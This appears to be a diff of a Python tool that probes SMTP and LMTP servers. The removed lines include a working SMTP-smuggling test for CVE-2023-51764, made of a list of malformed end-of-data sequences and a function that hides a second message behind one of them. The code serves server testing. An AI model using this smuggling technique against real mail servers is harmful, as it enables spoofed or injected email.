@@ -10,14 +10,11 @@ from base64 import b64encode
 from collections.abc import Iterator, Mapping, Sequence
 from contextlib import contextmanager
 from dataclasses import dataclass, field
-from itertools import pairwise
 from typing import ClassVar, Literal
 
 from .base import Conversation, Endpoint, ProbeError, Tls, keywords
-from .message import message, new_token
 
 HELO = "probe.example.net"
-ENDINGS = (b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r.\r\n", b"\r\n.\r", b"\r.\n", b"\n.\r")
 
 Login = tuple[str, str]
 
@@ -105,29 +102,11 @@ class Transaction:
         return found[-1] if found else ""
 
 
-@dataclass(frozen=True)
-class Smuggling:
-    """What became of a message with a second one hidden in it (CVE-2023-51764).
-
-    accepted   how many messages the server took: 2 means that it can be smuggled to
-    replies    every answer after the message, to see why
-    token      in the subject of the outer message
-    smuggled   in the subject of the hidden one
-    """
-
-    ending: bytes
-    accepted: int
-    replies: tuple[Reply, ...]
-    token: str
-    smuggled: str
-
-
 class Smtp(Conversation):
     """An SMTP client that says what it is told and keeps every answer."""
 
     GOODBYE = b"QUIT"
     HELLO: ClassVar[str] = "EHLO"
-    ANSWER_PER_RECIPIENT: ClassVar[bool] = False
     greeting: Reply
     offers: Hello
 
@@ -198,32 +177,11 @@ class Smtp(Conversation):
             rcpt[recipient] = self.command(f"RCPT TO:<{recipient}>") if mail.ok else mail
         return Transaction(mail, rcpt)
 
-    def content(self, envelope: Transaction, content: bytes) -> Transaction:
-        """The answers to the message itself."""
-        if not envelope.accepted:
-            return envelope
-        reply = self.command("DATA")
-        if reply.code != 354:
-            return Transaction(envelope.mail, envelope.rcpt, dict.fromkeys(envelope.accepted, reply))
-        self.send(stuffed(content) + b".\r\n", "end of data")
-        if self.ANSWER_PER_RECIPIENT:
-            return Transaction(envelope.mail, envelope.rcpt, {each: self.reply() for each in envelope.accepted})
-        return Transaction(envelope.mail, envelope.rcpt, dict.fromkeys(envelope.accepted, self.reply()))
-
 
 class Lmtp(Smtp):
     """The same for LMTP."""
 
     HELLO = "LHLO"
-    ANSWER_PER_RECIPIENT = True
-
-
-def stuffed(content: bytes) -> bytes:
-    """A message as it travels in DATA: every line ends in CRLF, a leading dot is doubled."""
-    lines = re.split(rb"\r\n|\r|\n", content)
-    if not lines[-1]:
-        lines.pop()
-    return b"".join((b"." + line if line.startswith(b".") else line) + b"\r\n" for line in lines)
 
 
 def _base64(text: str) -> str:
@@ -231,7 +189,8 @@ def _base64(text: str) -> str:
 
 
 @contextmanager
-def _session(e: Endpoint, tls: Tls, helo: str, login: Login | None = None, client: type[Smtp] = Smtp) -> Iterator[Smtp]:
+def session(e: Endpoint, tls: Tls, helo: str, login: Login | None = None, client: type[Smtp] = Smtp) -> Iterator[Smtp]:
+    """A connection that has introduced itself and, where told, logged in; raises SmtpRefused where that is refused."""
     with client(e, tls, helo=helo) as smtp:
         smtp.hello()
         if login:
@@ -247,26 +206,8 @@ def smtp_greeting(e: Endpoint, *, tls: Tls = "none") -> Reply:
 
 def smtp_ehlo(e: Endpoint, *, tls: Tls = "none", helo: str = HELO) -> Hello:
     """What does it offer, before TLS ("none") or after it ("starttls", "implicit")?"""
-    with _session(e, tls, helo) as smtp:
+    with session(e, tls, helo) as smtp:
         return smtp.offers
-
-
-def smtp_auth(
-    e: Endpoint,
-    user: str,
-    password: str,
-    *,
-    tls: Tls = "starttls",
-    mechanism: Literal["PLAIN", "LOGIN"] = "PLAIN",
-    helo: str = HELO,
-) -> Reply:
-    """May this user in (RFC 4954)? 235, or 535 for a wrong password, 530 before TLS, 503 where AUTH is not offered.
-
-    It is asked even where AUTH is not offered, so that the refusal can be seen. With tls="none" the
-    password travels in the clear. A server may let a wrong password wait: give the endpoint time.
-    """
-    with _session(e, tls, helo) as smtp:
-        return smtp.login(user, password, mechanism)
 
 
 def smtp_rcpt(
@@ -284,92 +225,17 @@ def smtp_rcpt(
     size   declared size of the message in bytes (RFC 1870)
     login  user and password; raises SmtpRefused where they are refused
     """
-    with _session(e, tls, helo, login) as smtp:
+    with session(e, tls, helo, login) as smtp:
         return _rcpt(smtp, sender, recipients, size)
-
-
-def smtp_send(
-    e: Endpoint,
-    sender: str,
-    recipients: Sequence[str],
-    content: bytes,
-    *,
-    tls: Tls = "none",
-    login: Login | None = None,
-    size: int | None = None,
-    helo: str = HELO,
-) -> Transaction:
-    """Does it take this message? The answers for each recipient, and the queue id.
-
-    Recipients that are refused do not keep the others from getting the message. BODY=8BITMIME
-    (RFC 6152) and SMTPUTF8 (RFC 6531) are declared where the message needs them and the server
-    offers them; the size only where it is given. Raises SmtpRefused where the login is refused.
-    """
-    with _session(e, tls, helo, login) as smtp:
-        parameters = _parameters(smtp.offers, sender, recipients, content, size)
-        return smtp.content(smtp.envelope(sender, recipients, *parameters), content)
 
 
 def lmtp_rcpt(e: Endpoint, sender: str, recipients: Sequence[str], *, tls: Tls = "none") -> Transaction:
     """The same over LMTP (RFC 2033), where a Unix socket may be the endpoint; Dovecot knows no SIZE there."""
-    with _session(e, tls, HELO, client=Lmtp) as lmtp:
+    with session(e, tls, HELO, client=Lmtp) as lmtp:
         return _rcpt(lmtp, sender, recipients, None)
-
-
-def lmtp_send(e: Endpoint, sender: str, recipients: Sequence[str], content: bytes, *, tls: Tls = "none") -> Transaction:
-    """Deliver a message over LMTP; each recipient has an answer of its own."""
-    with _session(e, tls, HELO, client=Lmtp) as lmtp:
-        parameters = _parameters(lmtp.offers, sender, recipients, content, None)
-        return lmtp.content(lmtp.envelope(sender, recipients, *parameters), content)
-
-
-def smtp_smuggle(
-    e: Endpoint,
-    sender: str,
-    recipient: str,
-    ending: bytes,
-    *,
-    tls: Tls = "none",
-    login: Login | None = None,
-    helo: str = HELO,
-) -> Smuggling:
-    """Does it take `ending` (see ENDINGS) for the end of a message, so that a second one can be hidden behind it?
-
-    Sends one message that really ends at its end. Raises SmtpRefused where not even that may be sent.
-    """
-    token = new_token()
-    hidden = f"{token}-smuggled"
-    with _session(e, tls, helo, login) as smtp:
-        for line, code in ((f"MAIL FROM:<{sender}>", 250), (f"RCPT TO:<{recipient}>", 250), ("DATA", 354)):
-            smtp.need(code, smtp.command(line))
-        outer = message(sender, recipient, token, "outer").rstrip(b"\r\n")
-        inner = message(sender, recipient, hidden, "smuggled")
-        commands = f"MAIL FROM:<{sender}>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n".encode()
-        smtp.send(outer + ending + commands + inner + b".\r\n", f"end of data {ending!r}")
-        replies = [Reply(354, ""), smtp.reply()]
-        try:
-            smtp.send(b"QUIT\r\n", smtp.asked)
-            while replies[-1].code not in (221, 421):
-                replies.append(smtp.reply())
-        except ProbeError:
-            pass  # a server that noticed may hang up
-    accepted = sum(before.code == 354 and after.ok for before, after in pairwise(replies))
-    return Smuggling(ending, accepted, tuple(replies[1:]), token, hidden)
 
 
 def _rcpt(smtp: Smtp, sender: str, recipients: Sequence[str], size: int | None) -> Transaction:
     transaction = smtp.envelope(sender, recipients, *([] if size is None else [f"SIZE={size}"]))
     smtp.command("RSET")
     return transaction
-
-
-def _parameters(hello: Hello, sender: str, recipients: Sequence[str], content: bytes, size: int | None) -> list[str]:
-    """What MAIL FROM has to declare."""
-    header = re.split(rb"\r?\n\r?\n", content, maxsplit=1)[0]
-    plain = header.isascii() and "".join([sender, *recipients]).isascii()
-    parameters = [] if size is None else [f"SIZE={size}"]
-    if "8BITMIME" in hello.capabilities and not content.isascii():
-        parameters.append("BODY=8BITMIME")
-    if "SMTPUTF8" in hello.capabilities and not plain:
-        parameters.append("SMTPUTF8")
-    return parameters
